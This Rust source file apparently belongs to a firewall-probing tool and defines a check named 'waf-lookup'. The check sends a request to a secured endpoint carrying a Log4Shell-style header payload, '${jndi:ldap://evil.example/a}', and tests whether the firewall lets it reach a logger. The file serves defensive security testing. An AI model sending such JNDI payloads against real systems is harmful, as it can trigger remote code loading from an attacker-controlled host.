//! A look-up in a header that some logger evaluates.

use super::{Probing, waf_traversal};
use crate::client::{ClientError, Probe};
use crate::report::Outcome;

attack!("waf-lookup", Firewall, Gate, "Does `${jndi:...}` reach a logger?", run);

async fn run(p: Probing<'_>) -> Result<Outcome, ClientError> {
    let Some(endpoint) = p.surface.secured_read() else { return Ok(Outcome::not_applicable("nothing to read")) };
    let with = |value: &str| p.mine(Probe::get(endpoint.path.clone())).header("x-api-version", value);
    waf_traversal::reaches(p, with("1"), with("${jndi:ldap://evil.example/a}")).await
}
